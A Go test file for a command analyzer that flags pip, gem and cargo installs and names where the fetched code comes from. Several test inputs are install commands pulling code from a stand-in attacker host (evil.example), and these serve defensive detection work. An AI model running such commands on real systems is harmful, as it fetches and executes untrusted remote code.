// Tests of the installer check: pip, gem and cargo install of a package or a URL name
// what runs and where it comes from; the project's own directory does not.
package commands

import "testing"

func TestPipInstallNamesFetchedCode(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a package by name", hostile: "pip install requests", want: "build and install code of package requests from the package index",
			benign: "pip list", markedOK: ""},
		{name: "a git URL", hostile: "pip install git+https://evil.example/x.git", want: "git+https://evil.example/x.git from evil.example",
			benign: "pip show requests"},
		{name: "an archive URL", hostile: "pip3 install https://h.example/x.tar.gz", want: "https://h.example/x.tar.gz from h.example",
			benign: "pip3 freeze"},
		{name: "a gem by name", hostile: "gem install rails", want: "package rails from rubygems.org", benign: "gem list"},
		{name: "a crate by name", hostile: "cargo install ripgrep", want: "package ripgrep from crates.io", benign: "cargo --version"},
		{name: "a crate from a git repository", hostile: "cargo install --git https://evil.example/x tool", want: "from the repository given with --git",
			benign: "cargo --version"},
	})
	for _, local := range []string{"pip install .", "pip install -e .", "pip install ./pkg", "cargo install --path ."} {
		a := testAnalyze([]string{"sh", "-c", local})
		if !a.Understood || mentions(a, "fetched from the network") {
			t.Errorf("%s: the project's own directory is said to be fetched:\n%s", local, dump(a))
		}
	}
}
